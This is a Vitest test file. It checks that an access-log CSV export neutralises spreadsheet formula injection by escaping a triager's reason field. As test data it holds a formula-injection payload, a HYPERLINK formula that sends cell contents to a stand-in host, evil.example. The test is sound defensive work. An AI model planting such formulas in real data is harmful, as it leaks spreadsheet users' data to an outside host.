import { describe, expect, it } from 'vitest'
import { familyFixture, postReport } from './helpers'
import { staffCall, useStaffTokens } from './staff-helpers'

const tokens = useStaffTokens()

describe('the access-log CSV', () => {
  it('shows a formula a triager typed as a reason as text, never as a formula', async () => {
    const { caseRef } = await (await postReport(familyFixture())).json<{ caseRef: string }>()
    const formula = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
    const change = await staffCall(`/reports/${caseRef}/status`, tokens.triager, { method: 'POST', json: { status: 'acknowledged', version: 1, reason: formula } })
    expect(change.status).toBe(200)

    const res = await staffCall(`/access-log?format=csv&caseRef=${caseRef}`, tokens.supervisor, { method: 'GET' })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const lines = (await res.text()).replace(/^\uFEFF/, '').trim().split('\r\n')
    expect(lines[0]).toBe('at,staff,ip,case,action,reason')
    const status = lines.find((line) => line.includes(',status,'))!
    // The cell starts with an apostrophe: a spreadsheet shows it and runs nothing.
    expect(status.endsWith(`,status,"'=HYPERLINK(""http://evil.example/?""&B2,""Open"")"`)).toBe(true)
    expect(lines.some((line) => /(^|,)"?[=+@-]/.test(line))).toBe(false)
  })
})
